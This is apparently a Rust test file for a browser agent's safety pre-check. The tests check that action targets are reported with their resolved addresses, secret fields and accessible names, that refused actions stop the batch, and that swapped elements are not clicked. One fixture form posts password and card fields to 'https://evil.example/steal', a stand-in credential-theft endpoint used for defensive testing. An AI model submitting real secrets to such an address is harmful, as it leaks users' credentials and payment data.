//! The pre-check of each action: the facts the content module reports about its element
//! (resolved link and form addresses, submit controls and their forms' secret fields, every
//! source of the accessible name, over the composed tree), and that an action runs only on a
//! verdict that allows it, on the element that was checked.

use std::cell::RefCell;
use std::rc::Rc;

use wasm_bindgen_test::wasm_bindgen_test;
use zo_core::wire::{ActionErrorCode, ActionStatus, ContentToWorker, TargetFacts};

use crate::support::*;

/// Runs one action (JSON), allowing it, and returns the facts its check carried.
async fn checked_facts(action: &str) -> Option<TargetFacts> {
    let msg = format!(
        r#"{{"type":"EXECUTE_ACTION","batchId":"facts","actions":[{action}],"timeoutMs":300}}"#
    );
    let r = send(&msg).await;
    let checks: Vec<_> = r
        .messages
        .iter()
        .filter_map(|m| match m {
            ContentToWorker::ActionCheck { facts, index, .. } => Some((*index, facts.clone())),
            _ => None,
        })
        .collect();
    assert_eq!(checks.len(), 1, "one check per action: {:?}", r.messages);
    assert_eq!(checks[0].0, 0);
    checks[0].1.clone()
}

fn origin() -> String {
    web_sys::window().unwrap().location().origin().unwrap()
}

#[wasm_bindgen_test]
async fn a_link_reports_its_resolved_address_and_text() {
    let _f = Fixture::new(
        r#"<a id="fx-link" href="/next?x=1" onclick="event.preventDefault()">Read <b>more</b></a>"#,
    );
    let f = checked_facts(r##"{"type":"click","selector":"#fx-link b"}"##)
        .await
        .unwrap();
    assert_eq!(f.tag, "a", "a click inside the link is on the link");
    assert_eq!(f.href, Some(format!("{}/next?x=1", origin())));
    assert_eq!(f.name, "Read more");
    assert_eq!(f.submits, None);
}

#[wasm_bindgen_test]
async fn a_submit_button_reports_its_form_even_when_fields_clobber_it() {
    let _f = Fixture::new(
        r#"<form id="fx-form" action="https://evil.example/steal" onsubmit="event.preventDefault()">
             <input name="action" value="clobbered"><input name="elements">
             <input type="password" name="pw">
             <input name="cc" autocomplete="cc-number">
             <input name="user" autocomplete="username">
             <input name="plain">
             <button id="fx-go"><span id="fx-span">Pay now</span></button>
             <button id="fx-other" formaction="/elsewhere">Other</button>
             <button id="fx-plain" type="button">Not a submit</button>
           </form>"#,
    );
    let f = checked_facts(r##"{"type":"click","selector":"#fx-span"}"##)
        .await
        .unwrap();
    assert_eq!(f.tag, "button");
    assert_eq!(f.input_type.as_deref(), Some("submit"));
    assert_eq!(f.name, "Pay now");
    let form = f.submits.expect("a submit button submits its form");
    assert_eq!(form.action.as_deref(), Some("https://evil.example/steal"));
    let fields: Vec<(&str, &str)> = form
        .fields
        .iter()
        .map(|f| (f.input_type.as_str(), f.autocomplete.as_str()))
        .collect();
    assert_eq!(
        fields,
        [
            ("text", ""),
            ("text", ""),
            ("password", ""),
            ("text", "cc-number"),
            ("text", "username"),
            ("text", ""),
        ],
        "every field typed into, by its real type (a field named `elements` hides none)"
    );
    assert_eq!(
        form.fields[2].name, "pw",
        "a field is called by its name at least"
    );
    let other = checked_facts(r##"{"type":"click","selector":"#fx-other"}"##)
        .await
        .unwrap();
    assert_eq!(
        other.submits.unwrap().action,
        Some(format!("{}/elsewhere", origin())),
        "formaction wins over the form's action"
    );
    let plain = checked_facts(r##"{"type":"click","selector":"#fx-plain"}"##)
        .await
        .unwrap();
    assert_eq!(plain.input_type.as_deref(), Some("button"));
    assert_eq!(plain.submits, None);
}

#[wasm_bindgen_test]
async fn a_fill_through_a_label_reports_the_field() {
    let _f = Fixture::new(
        r#"<label id="fx-lab" for="fx-pw">Password</label>
           <input id="fx-pw" type="password" autocomplete="current-password">"#,
    );
    let f = checked_facts(r##"{"type":"fill","selector":"#fx-lab","value":"x"}"##)
        .await
        .unwrap();
    assert_eq!(f.tag, "input");
    assert_eq!(f.input_type.as_deref(), Some("password"));
    assert_eq!(f.autocomplete, "current-password");
    assert_eq!(f.name, "Password");
}

#[wasm_bindgen_test]
async fn every_name_source_is_reported() {
    let _f = Fixture::new(
        r#"<span id="fx-l1">Delete</span>
           <div role="button" id="fx-aria" tabindex="0" aria-labelledby="fx-l1" aria-label="Remove item" title="Trash">x</div>
           <input type="submit" id="fx-send" value="Send message">
           <input id="fx-ph" placeholder="Card number">"#,
    );
    let aria = checked_facts(r##"{"type":"click","selector":"#fx-aria"}"##)
        .await
        .unwrap();
    assert_eq!(aria.name, "Delete Remove item x Trash");
    let send = checked_facts(r##"{"type":"click","selector":"#fx-send"}"##)
        .await
        .unwrap();
    assert_eq!(send.name, "Send message");
    assert_eq!(send.submits, None, "no form, nothing submitted");
    let ph = checked_facts(r##"{"type":"fill","selector":"#fx-ph","value":"4111"}"##)
        .await
        .unwrap();
    assert_eq!(ph.name, "Card number");
}

#[wasm_bindgen_test]
async fn a_components_button_is_reported_with_its_slotted_label() {
    // The policy judges what is clicked by its name: a web component's label is slotted text,
    // which the inner control's own DOM text does not hold.
    let f = Fixture::new(
        r#"<sl-button id="fx-sl">Delete <span class="fx-sl-label">account</span></sl-button>"#,
    );
    crate::libs::shoelace(&f.0).await;
    for sel in ["#fx-sl >>> button", ".fx-sl-label"] {
        let facts = checked_facts(&format!(r#"{{"type":"click","selector":"{sel}"}}"#))
            .await
            .unwrap();
        assert_eq!(
            facts.tag, "button",
            "{sel}: the inner control is what is clicked"
        );
        assert_eq!(facts.name, "Delete account", "{sel}");
    }
}

#[wasm_bindgen_test]
async fn actions_without_an_element_are_checked_without_facts() {
    assert_eq!(checked_facts(r#"{"type":"wait","ms":1}"#).await, None);
}

#[wasm_bindgen_test]
async fn a_refused_action_does_nothing_and_stops_the_batch() {
    let f = Fixture::new(
        r#"<button id="fx-pay" onclick="this.textContent='paid'">Pay</button>
           <input id="fx-after">"#,
    );
    let judge: Judge = Rc::new(|_| Some((false, Some("You declined: Click “Pay”.".into()))));
    let r = send_judged(
        r##"{"type":"EXECUTE_ACTION","batchId":"refuse","timeoutMs":300,"actions":[
            {"type":"click","selector":"#fx-pay"},
            {"type":"fill","selector":"#fx-after","value":"x"}]}"##,
        judge,
    )
    .await;
    let results = r.results();
    assert_eq!(results[0].status, ActionStatus::Failed);
    let e = results[0].error.as_ref().unwrap();
    assert_eq!(
        (e.code, e.message.as_str()),
        (ActionErrorCode::Refused, "You declined: Click “Pay”.")
    );
    assert_eq!(results[1].status, ActionStatus::Skipped);
    assert_eq!(
        f.get("#fx-pay").text_content().unwrap(),
        "Pay",
        "not clicked"
    );
    assert_eq!(value_of(&f.get("#fx-after")), "");
}

/// A judge that runs `change` on the page, then allows: the page changed while the user
/// was deciding.
fn allow_after(change: impl Fn() + 'static) -> Judge {
    let change = Rc::new(change);
    Rc::new(move |_| {
        change();
        Some((true, None))
    })
}

#[wasm_bindgen_test]
async fn an_element_that_changed_while_waiting_is_not_acted_on() {
    let f = Fixture::new(
        r#"<div id="fx-list"><button class="fx-row" onclick="this.dataset.hit=1">Keep</button></div>"#,
    );
    let list = f.get("#fx-list");
    let swap = allow_after(move || {
        list.set_inner_html(
            r#"<button class="fx-row" onclick="this.dataset.hit=1">Delete everything</button>"#,
        );
    });
    let r = send_judged(
        r##"{"type":"EXECUTE_ACTION","batchId":"swap","timeoutMs":300,"actions":[{"type":"click","selector":".fx-row"}]}"##,
        swap,
    )
    .await;
    let e = r.results()[0].error.clone().expect("refused");
    assert_eq!(e.code, ActionErrorCode::Refused);
    assert!(
        e.message.contains("no longer is the element"),
        "{}",
        e.message
    );
    assert!(f.get(".fx-row").get_attribute("data-hit").is_none());
}

#[wasm_bindgen_test]
async fn an_equal_element_rendered_again_is_acted_on() {
    let f = Fixture::new(r#"<div id="fx-re"><button class="fx-again">Next</button></div>"#);
    let host = f.get("#fx-re");
    let seen = Rc::new(RefCell::new(0));
    let s = seen.clone();
    let rerender = allow_after(move || {
        *s.borrow_mut() += 1;
        host.set_inner_html(
            r#"<button class="fx-again" onclick="this.dataset.hit=1">Next</button>"#,
        );
    });
    let r = send_judged(
        r##"{"type":"EXECUTE_ACTION","batchId":"again","timeoutMs":300,"actions":[{"type":"click","selector":".fx-again"}]}"##,
        rerender,
    )
    .await;
    assert_eq!(
        r.results()[0].status,
        ActionStatus::Done,
        "{:?}",
        r.results()
    );
    assert_eq!(*seen.borrow(), 1);
    assert_eq!(
        f.get(".fx-again").get_attribute("data-hit").as_deref(),
        Some("1")
    );
}
